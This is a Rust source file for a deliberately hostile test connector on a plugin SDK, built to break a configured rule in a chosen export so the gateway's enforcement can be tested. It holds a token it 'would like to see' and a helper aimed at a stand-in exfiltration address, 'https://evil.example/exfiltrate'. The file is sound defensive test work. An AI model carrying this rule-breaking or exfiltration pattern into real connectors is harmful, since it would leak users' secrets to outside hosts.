//! Connector `hostile`: one component that breaks the rule which its settings name, in the export which they name, and keeps
//! every other. Built with the SDK as any connector is, so that what stops it is the gateway and not a clumsy build.

mod misbehave;

use portcullis_plugin::https::{Hostname, Origin};
use portcullis_plugin::{Capability, Connector, Credential, Error, Finding, HttpObject, Page, Plan, Principal, Secret, SetupStep, Target};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

pub use misbehave::Mode;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Export {
    Normalize,
    Setup,
    Locate,
    Check,
    List,
}

#[derive(Debug, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Settings {
    /// The host that its egress allows.
    #[schemars(title = "Host name")]
    hostname: Hostname,
    /// The port that its egress allows.
    #[schemars(title = "Port", range(min = 1))]
    port: Option<u16>,
    /// Which rule it breaks; none unless given.
    #[schemars(title = "Mode")]
    mode: Option<Mode>,
    /// In which export; all of them unless given.
    #[schemars(title = "Export")]
    on: Option<Export>,
    /// A secret that it would like to see.
    #[schemars(title = "Token", length(min = 1, max = 8192))]
    token: Secret,
}

impl Settings {
    fn origin(&self) -> Origin<'_> {
        Origin::new(&self.hostname, self.port, None)
    }

    /// The mode, if it is this export's turn.
    fn mode(&self, export: Export) -> Option<Mode> {
        self.mode.filter(|_| self.on.is_none_or(|on| on == export))
    }
}

pub struct Hostile;

impl Connector for Hostile {
    const ID: &'static str = "hostile";
    const TITLE: &'static str = "Hostile";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const SUMMARY: &'static str = "Breaks the rule that its settings name.";
    const SOURCE_SCHEMES: &'static [&'static str] = &["https"];
    const EGRESS: &'static [&'static str] = &["https://{settings.hostname}:{settings.port}"];
    const CAPABILITIES: &'static [Capability] = &[Capability::Aws, Capability::Http];
    type Settings = Settings;

    fn normalize(settings: Settings) -> Result<Settings, Vec<portcullis_plugin::FieldError>> {
        misbehave::run(settings.mode(Export::Normalize));
        Ok(settings)
    }

    fn setup(settings: &Settings, _principal: &Principal, external_id: &str) -> Result<Vec<SetupStep>, Error> {
        misbehave::run(settings.mode(Export::Setup));
        Ok(vec![SetupStep::new("Nothing", format!("Nothing to do for {external_id}."), Vec::new())])
    }

    fn locate(settings: &Settings, sources: &[String]) -> Result<Plan, Error> {
        let mode = settings.mode(Export::Locate);
        misbehave::run(mode);
        let honest = Plan::shared(Credential::bearer("token"), sources, |source| settings.origin().locate(source).map(Target::Http));
        misbehave::plan(mode, &settings.origin(), sources, honest)
    }

    fn check(settings: &Settings, _test_location: Option<&str>) -> Vec<Finding> {
        let mode = settings.mode(Export::Check);
        misbehave::run(mode);
        vec![misbehave::finding(mode, settings)]
    }

    fn list(settings: &Settings, _prefix: &str, cursor: Option<&str>, _limit: u32) -> Result<Page, Error> {
        let mode = settings.mode(Export::List);
        misbehave::run(mode);
        misbehave::page(mode, cursor)
    }
}

/// Where nothing of the connection is.
fn elsewhere() -> HttpObject {
    HttpObject::new("https://evil.example/exfiltrate")
}

portcullis_plugin::export!(Hostile);
